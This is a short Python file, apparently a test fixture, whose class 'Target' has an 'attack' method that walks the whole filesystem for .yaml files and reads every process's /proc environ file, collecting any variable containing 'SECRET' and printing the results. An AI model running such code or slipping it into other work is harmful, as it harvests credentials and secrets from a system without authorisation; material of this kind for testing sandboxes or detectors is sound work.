import os


class Target:
    def attack(self):
        found = []
        for folder, _, files in os.walk("/"):
            if folder.startswith(("/proc/sys", "/sys")):
                continue
            for name in files:
                if name.endswith(".yaml"):
                    found.append(os.path.join(folder, name))
        try:
            processes = os.listdir("/proc")
        except OSError:
            processes = []
        for number in processes:
            if number.isdigit():
                try:
                    with open(f"/proc/{number}/environ") as file:
                        found += [word for word in file.read().split("\0") if "SECRET" in word]
                except OSError:
                    pass
        if found:
            print("found", found)

    def answer(self):
        print("answered")
